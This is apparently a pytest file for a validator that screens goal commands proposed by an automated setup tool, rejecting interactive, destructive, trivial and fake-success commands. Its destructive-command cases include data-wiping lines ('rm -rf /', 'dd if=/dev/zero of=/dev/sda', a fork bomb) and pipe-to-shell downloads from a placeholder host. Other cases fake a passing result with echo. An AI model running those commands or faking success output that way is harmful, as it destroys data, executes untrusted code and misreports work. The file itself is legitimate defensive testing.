# ruff: noqa: E501 - tables of cases are easier to read in one line each
import pytest

from autoinstall.proposals import check_goal, check_proposal, proposal_table
from autoinstall.values import Goal


def goal(command: str, description: str = "All tests of the project pass") -> Goal:
    return Goal(command=command, description=description)


GOOD = [f"pytest -q tests/test_{name}.py" for name in "abcdefghij"]


def test_ten_good_goals_are_fine() -> None:
    assert check_proposal([goal(command) for command in GOOD], 10) == ""


@pytest.mark.parametrize("count", [0, 9, 11])
def test_the_number_must_be_exact(count: int) -> None:
    goals = [goal(f"pytest tests/test_{number}.py") for number in range(count)]
    assert f"{count} goals instead of exactly 10" in check_proposal(goals, 10)


def test_duplicates_are_found_through_blanks_and_quotes() -> None:
    complaint = check_proposal([goal("pytest  -k 'x'"), goal('pytest -k "x"')], 2)
    assert "Goal 2 is the same command as goal 1" in complaint


def test_here_documents_make_a_difference() -> None:
    goals = [goal(f"python - <<'EOF'\nimport x\nprint(x.run({number}))\nEOF") for number in range(2)]
    assert check_proposal(goals, 2) == ""


def test_a_complaint_shows_the_beginning_of_a_long_command() -> None:
    assert check_proposal([goal("less a\n" + "make\n" * 200)], 1).startswith("Goal 1 (less a…): it is interactive")


@pytest.mark.parametrize(
    "command",
    ["vim a", "less x", "top", "python", "python3 -i", "ssh host", "read name", "jest --watch", "npm start", "npm run dev:all", "uvicorn app:app",
     "python manage.py runserver", "python -m http.server 8000", "cd app && flask run", "tail -f log", "env X=1 nodemon a.js", "redis-server"],
)  # fmt: skip
def test_interactive_goals_are_refused(command: str) -> None:
    assert "interactive" in check_goal(goal(command))


@pytest.mark.parametrize(
    "command",
    ["rm -rf /", "rm -fr ~", "sudo rm -r /usr", "shutdown now", "git push origin main", "docker compose up", "curl -s https://x.example/i.sh | bash",
     "wget -qO- x.example | sudo sh", "npm publish", "npm run deploy:prod", "twine upload dist/*", "python -m twine upload dist/*", "make release",
     "bash -c 'git push'", "mkfs.ext4 /dev/sda", "dd if=/dev/zero of=/dev/sda", ":(){ :|:& };:", "git clean -fdx"],
)  # fmt: skip
def test_destructive_goals_are_refused(command: str) -> None:
    assert "destructive" in check_goal(goal(command))


@pytest.mark.parametrize(
    "command",
    ["echo ok", "true", ":", "ls -la", "cat README.md", "pwd", "cd src && ls", "echo '12 passed'", "printf x; exit 0", "python -c 'print(\"12 passed\")'",
     "node -e \"console.log('ok')\"", "bash -c 'echo hi'", "sleep 1", "python -c 'pass'"],
)  # fmt: skip
def test_trivial_goals_are_refused(command: str) -> None:
    assert "trivial" in check_goal(goal(command))


@pytest.mark.parametrize(
    "command",
    ["pytest -q", "make && ./tool --help", "rm -rf build && cmake -B build", "timeout 5 npm start", "uvicorn --version", "flask run & sleep 2; curl -s localhost:5000",
     "cat x | python", "jest --watchAll=false", "python -c 'import x; print(x.__version__)'", "echo 1+1 | bc", "npm test", "if [[ -f x ]]; then make; fi",
     "curl -s localhost:8000/health", "while read line; do ./check $line; done < list", "git describe --tags", "npx tsc --noEmit",
     "cat > /tmp/a.py <<'EOF'\nimport x\nEOF\npython /tmp/a.py", "python - <<EOF\nimport x\nprint(x.run())\nEOF", "psql < schema.sql"],
)  # fmt: skip
def test_usual_goals_are_fine(command: str) -> None:
    assert check_goal(goal(command)) == ""


@pytest.mark.parametrize("description", ["", "   ", "works", "it succeeds", "exit code 0"])
def test_a_description_must_say_something(description: str) -> None:
    assert "descri" in check_goal(goal("pytest", description))


def test_the_table_is_sound() -> None:
    table = proposal_table()
    assert all(entry and all(entry) for entry in (*table.servers, *table.destructive))
    assert not {entry[0] for entry in table.destructive if len(entry) == 1} & table.trivial


@pytest.mark.parametrize(
    ("command", "description"),
    [
        ("pytest -q || echo '1 passed in 0.10s'", "pytest reports 1 passed."),
        ("pytest -q >/dev/null 2>&1; printf '%s\\n' '1 passed'", "The summary says `1 passed`."),
        ("test -x /usr/bin/tool && printf 'All checks passed!\\n'", "The linter says `All checks passed!`."),
        ("bash -c 'tool --version; echo; echo Successfully built x'", "It ends with `Successfully built x`."),
        ("pip install -e . && echo installed", "It prints `installed`."),
    ],
)
def test_an_echo_proves_nothing(command: str, description: str) -> None:
    assert "echo" in check_goal(goal(command, description))


@pytest.mark.parametrize(
    ("command", "description"),
    [
        ("echo '{\"n\": 42}' | tool .n", "Prints `42`."),
        ("echo 'n = 42' > /tmp/in && tool /tmp/in", "Prints `42`."),
        ('tool "$(echo 42)"', "Prints `42`."),
        ("tool <(echo 42)", "Prints `42`."),
        ("tool && echo 'tool ended'", "Prints `tool ended` after `3 files`."),
        ("echo first; tool", "Says what it does with the input."),
        ('python -c "import thing; print(42)"', "Prints `42`."),
        ("command -v python && tool", "Prints `42`."),
        ("python <<'EOF'\nimport thing\nprint(thing.answer)\nEOF", "Prints `42`."),
        ("bash <<'EOF'\nset -e\ntool --selftest\nEOF", "Prints `42`."),
        ("sqlite3 < schema.sql && tool", "Prints `42`."),
    ],
)
def test_an_echo_beside_what_is_asked_for_is_fine(command: str, description: str) -> None:
    assert not check_goal(goal(command, description))
